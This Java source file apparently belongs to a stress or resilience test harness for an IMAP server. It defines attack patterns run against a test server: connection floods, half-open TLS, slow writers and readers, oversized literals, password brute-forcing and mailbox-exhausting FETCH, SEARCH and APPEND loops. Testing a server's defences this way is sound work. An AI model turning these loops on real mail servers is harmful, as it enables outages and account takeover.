package org.godwit.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.util.ArrayList;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;

/** What somebody does to the server from an address that is not the victim's, with one thread of many. */
enum Attack {
  /** Connects again and again and keeps what it gets. */
  CONNECTIONS(16) {
    @Override
    void strike(Target target) throws IOException {
      var kept = new ArrayList<Wire>();
      try {
        for (int i = 0; i < 200; i++) {
          kept.add(Wire.connect(target.from(), i % 2 == 0 ? target.imap() : target.imaps()));
          target.hit();
        }
      } finally {
        kept.forEach(Wire::close);
      }
    }
  },
  /** Connects and says nothing where TLS is expected, or sends a ClientHello, which costs the server a signature, and nothing more. */
  HALF_OPEN_TLS(64) {
    @Override
    void strike(Target target) throws IOException {
      try (var silent = Wire.connect(target.from(), target.imaps()); var begun = Wire.connect(target.from(), target.imaps())) {
        begun.send(target.clientHello());
        target.hit();
        begun.read();
        silent.read();
      }
    }
  },
  /** Lines without an end. */
  ENDLESS_LINES(16) {
    @Override
    void strike(Target target) throws IOException {
      try (var wire = Wire.connect(target.from(), target.imap())) {
        wire.line();
        byte[] piece = "x".repeat(16 * 1024).getBytes(US_ASCII);
        while (true) {
          wire.send(piece);
          target.hit();
        }
      }
    }
  },
  /** Literals before login, as large as they are taken, and announced ones that are larger. */
  GIANT_LITERALS(16) {
    @Override
    void strike(Target target) throws IOException {
      try (var wire = Wire.connect(target.from(), target.imap())) {
        wire.line();
        wire.send("a LOGIN {99999999}\r\n");
        wire.line();
        String literal = " {4000+}\r\n" + "x".repeat(4000);
        wire.send("a LOGIN");
        while (true) {
          wire.send(literal);
          target.hit();
        }
      }
    }
  },
  /** Commands a octet at a time. */
  SLOW_WRITERS(90) {
    @Override
    void strike(Target target) throws IOException {
      try (var wire = Wire.connect(target.from(), target.imap())) {
        wire.line();
        while (true) {
          for (byte octet : "a CAPABILITY\r\n".getBytes(US_ASCII)) {
            wire.send(new byte[] {octet});
            LockSupport.parkNanos(TimeUnit.MILLISECONDS.toNanos(20));
          }
          target.hit();
        }
      }
    }
  },
  /** Guesses the victim's password. */
  BRUTE_FORCE(64) {
    @Override
    void strike(Target target) throws IOException {
      try (var wire = Wire.connect(target.from(), target.imap())) {
        wire.line();
        while (true) {
          wire.imap("LOGIN " + AttackedServer.VICTIM + " wrong" + target.hit());
        }
      }
    }
  },
  /** Guesses made-up users' passwords from very many addresses, many of them at a time. */
  GUESSES_FROM_EVERYWHERE(100) {
    @Override
    void strike(Target target) throws IOException {
      try (var wire = Wire.connect(target.anywhere(), target.imap())) {
        wire.line();
        for (int i = 0; i < 3; i++) {
          wire.imap("LOGIN user" + target.hit() + " wrong");
        }
      }
    }
  },
  /** Logged in: asks for all mail and reads none of it. */
  SLOW_READERS(20) {
    @Override
    void strike(Target target) throws IOException {
      try (var wire = target.loggedIn()) {
        for (int i = 0; i < 1000; i++) {
          wire.send("a" + i + " FETCH 1:* BODY.PEEK[]\r\n");
          target.hit();
        }
        LockSupport.parkNanos(TimeUnit.MINUTES.toNanos(10));
      }
    }
  },
  /** Logged in: reads all mail as fast as it comes. */
  HUGE_FETCH(4) {
    @Override
    void strike(Target target) throws IOException {
      try (var wire = target.loggedIn()) {
        while (true) {
          wire.imap("FETCH 1:* BODY.PEEK[]");
          target.hit();
        }
      }
    }
  },
  /** Logged in: looks through the text of all mail for what is not there. */
  HUGE_SEARCH(8) {
    @Override
    void strike(Target target) throws IOException {
      try (var wire = target.loggedIn()) {
        while (true) {
          wire.imap("SEARCH OR TEXT zzzzzz NOT BODY qqqqqq");
          wire.imap("SORT (SUBJECT DATE) UTF-8 BODY zyx");
          target.hit();
        }
      }
    }
  },
  /** Logged in: appends large messages. */
  HUGE_APPEND(2) {
    @Override
    void strike(Target target) throws IOException {
      byte[] message = AttackedServer.message(8 << 20);
      try (var wire = target.loggedIn()) {
        for (int i = 0; i < 10; i++) {
          wire.append(message);
          target.hit();
        }
        wire.imap("STORE 1:* +FLAGS (\\Deleted)");
        wire.imap("EXPUNGE");
      }
    }
  };

  private final int threads;

  Attack(int threads) {
    this.threads = threads;
  }

  /** How many do it at a time. */
  int threads() {
    return threads;
  }

  /** Whether the attacker has an account. */
  boolean isByUser() {
    return ordinal() >= SLOW_READERS.ordinal();
  }

  /** Does it until the server ends the connection; then it is done again. */
  abstract void strike(Target target) throws IOException;
}
